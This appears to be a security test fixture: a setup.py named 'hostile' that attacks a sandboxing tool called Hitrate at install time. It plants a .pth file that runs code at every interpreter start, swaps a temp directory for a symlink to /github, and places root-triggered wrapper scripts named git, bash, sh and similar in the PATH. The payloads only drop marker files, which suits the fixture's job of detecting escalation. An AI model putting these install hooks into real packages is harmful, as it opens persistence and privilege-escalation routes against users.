"""Lays a trap while it is installed: whoever starts the project's interpreter next, falls into it."""

import glob
import os
import tempfile

from setuptools import setup

marks = os.path.join(tempfile.gettempdir(), "marks")
os.makedirs(marks, exist_ok=True)
scratch = os.path.dirname(tempfile.gettempdir())
for folder in glob.glob(os.path.join(scratch, "environment", "lib", "python*", "site-packages")):
    with open(os.path.join(folder, "installed.pth"), "w") as file:
        file.write(f"import os; os.geteuid() or open({os.path.join(marks, 'sprung-install')!r}, 'w')\n")

# What Hitrate opens to this user between two commands is to become what that user must not reach.
opened = os.path.join(tempfile.gettempdir(), "bytecode")
if not os.path.exists(opened):
    os.symlink("/github", opened)
elif os.path.isdir(opened) and not os.path.islink(opened):
    os.rename(opened, opened + ".real")
    os.symlink("/github", opened)

# Programs that Hitrate runs as root, in the first folder of the PATH that the tests get.
for name in ("setpriv", "choom", "prlimit", "git", "id", "bash", "sh"):
    path = os.path.join(scratch, "environment", "bin", name)
    with open(path, "w") as file:
        real = "/bin/sh" if name in ("sh", "bash") else f"/usr/bin/{name}"
        file.write(f'#!/bin/sh\ntest "$(/usr/bin/id -u)" = 0 && touch {marks}/sprung-program-{name}\nexec {real} "$@"\n')
    os.chmod(path, 0o755)

setup(name="hostile", version="1.0", py_modules=["victim"])
